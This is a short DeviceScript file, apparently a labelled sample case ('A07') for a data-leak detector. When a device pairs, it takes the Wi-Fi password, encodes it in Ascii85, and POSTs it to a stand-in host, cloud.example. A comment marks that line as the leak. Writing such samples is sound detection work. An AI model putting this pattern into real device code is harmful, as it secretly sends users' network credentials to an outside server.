// A07: in base85 (Ascii85).
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

function ascii85(bytes: Buffer) {
  let out = "";
  for (let at = 0; at < bytes.length; at += 4) {
    let value = 0;
    for (let i = 0; i < 4; i++) value = value * 256 + (at + i < bytes.length ? bytes[at + i] : 0);
    let group = "";
    for (let i = 0; i < 5; i++) {
      const rest = Math.floor(value / 85);
      group = String.fromCharCode(33 + (value - rest * 85)) + group;
      value = rest;
    }
    out += group.slice(0, Math.min(4, bytes.length - at) + 1);
  }
  return out;
}

paired(async (_ssid, psk) => {
  const body = ascii85(Buffer.from(psk));
  const response = await fetch("https://cloud.example/a07", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
